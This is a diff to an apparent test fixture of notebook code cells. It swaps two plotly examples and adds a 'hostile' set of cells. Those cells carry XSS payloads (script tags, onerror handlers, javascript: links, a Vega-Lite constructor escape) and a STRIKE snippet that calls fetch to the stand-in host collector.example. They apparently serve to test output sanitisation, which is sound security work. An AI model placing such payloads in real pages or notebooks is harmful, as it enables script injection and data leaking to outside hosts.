@@ -84,9 +84,9 @@ $$A = \\begin{pmatrix} 1 & 2 & 3 \\\\ 4 & 5 & 6 \\\\ 7 & 8 & 9 \\end{pmatrix}, \
     "plotly": [
         "import pandas as pd\nimport plotly.express as px\n\ndata = pd.DataFrame({'day': range(12), 'orders': [3, 5, 4, 8, 9, 7, 12, 13, 11, 15, 14, 18], 'region': ['eu', 'ap'] * 6})",
         "px.line(data, x='day', y='orders', color='region', title='Orders', markers=True)",
-        "px.bar(data, x='region', y='orders').show()\npx.scatter_3d(data, x='day', y='orders', z='orders', height=320).show()",
+        "px.bar(data, x='region', y='orders').show()\npx.histogram(data, x='orders', color='region', height=260).show()",
         "px.pie(data, names='region', values='orders', height=300).show('notebook_connected')",
-        "import plotly.graph_objects as go\ngo.Figure(go.Surface(z=[[1, 2, 3], [2, 4, 6], [3, 6, 9]])).update_layout(height=300)",
+        "import plotly.graph_objects as go\ngo.Figure(go.Heatmap(z=[[1, 2, 3], [2, 4, 6], [3, 6, 9]])).update_layout(height=260, width=420)",
     ],
     "altair": [
         "import altair as alt\nimport pandas as pd\n\ndata = pd.DataFrame({'day': range(12), 'orders': [3, 5, 4, 8, 9, 7, 12, 13, 11, 15, 14, 18], 'region': ['eu', 'ap'] * 6})",
@@ -134,6 +134,16 @@ $$A = \\begin{pmatrix} 1 & 2 & 3 \\\\ 4 & 5 & 6 \\\\ 7 & 8 & 9 \\end{pmatrix}, \
         "for n in range(2, 5):\n    display(Markdown(f'step **{n}**'), display_id='status', update=True)",
         "table = display(HTML('<b>old</b>'), display_id=True)\ntable.update(HTML('<b>new</b> value'))",
         "for n in range(3):\n    clear_output(wait=True)\n    print('round', n)\nclear_output()\nprint('only this is left')",
+    ],
+    "hostile": [
+        "from bokeh.io import output_notebook\nfrom IPython.display import HTML, display\n\noutput_notebook(hide_banner=True)\nSTRIKE = \"parent.document.title='pwned'; fetch('https://collector.example/strike')\"",
+        "display({'application/vnd.plotly.v1+json': {'data': [{'type': 'scatter', 'mode': 'text', 'y': [1, 2], 'text': ['<img src=x onerror=\"alert(1)\">', '</script><script>alert(1)</script>']}], 'layout': {'height': 200, 'title': {'text': '<a href=\"javascript:alert(1)\" target=\"_top\">look</a><script>alert(1)</script>'}, 'images': [{'source': 'https://collector.example/plotly.png', 'x': 0, 'y': 1, 'sizex': 1, 'sizey': 1}]}, 'config': {'plotlyServerURL': 'https://collector.example/'}}}, raw=True)",
+        "display({'application/vnd.vegalite.v6.json': {'data': {'values': [{'a': 1}]}, 'transform': [{'calculate': 'datum.constructor.constructor(\"alert(1)\")()', 'as': 'b'}], 'mark': {'type': 'image', 'width': 20, 'height': 20, 'url': 'https://collector.example/vega.png'}, 'encoding': {'x': {'field': 'a', 'type': 'quantitative'}, 'href': {'value': 'javascript:alert(1)'}}}}, raw=True)\ndisplay({'application/vnd.vegalite.v6.json': {'data': {'url': 'https://collector.example/vega.json'}, 'mark': 'bar'}}, raw=True)",
+        "from bokeh.events import DocumentReady\nfrom bokeh.io import curdoc, show\nfrom bokeh.models import CustomJS, Div\nfrom bokeh.plotting import figure\n\np = figure(width=200, height=120, title='</script><script>alert(1)</script>')\np.image_url(url=['https://collector.example/bokeh.png'], x=0, y=0, w=1, h=1)\ncurdoc().js_on_event(DocumentReady, CustomJS(code=STRIKE))\np.x_range.js_on_change('start', CustomJS(code=STRIKE))\nshow(p)",
+        "from bokeh.models import Div\nshow(Div(text='<img src=\"https://collector.example/div.png\" onerror=\"alert(1)\"><a href=\"https://collector.example/\" target=\"_top\">away</a>'))",
+        "import ipywidgets as widgets\nwidgets.HTML(f'<img src=\"https://collector.example/widget.png\" onerror=\"{STRIKE}\"><script>{STRIKE}</script><a href=\"javascript:alert(1)\">x</a>')",
+        "display(HTML(f'<div class=\"plotly-graph-div\"></div><script>Plotly.newPlot(\"x\", [], {{}}, {{}}); {STRIKE}</script>'))",
+        "display(HTML(f'<b>styled</b><script>{STRIKE}</script><img src=\"https://collector.example/html.png\" onerror=\"{STRIKE}\">'))\ndisplay({'application/javascript': STRIKE}, raw=True)",
     ],
 }
 
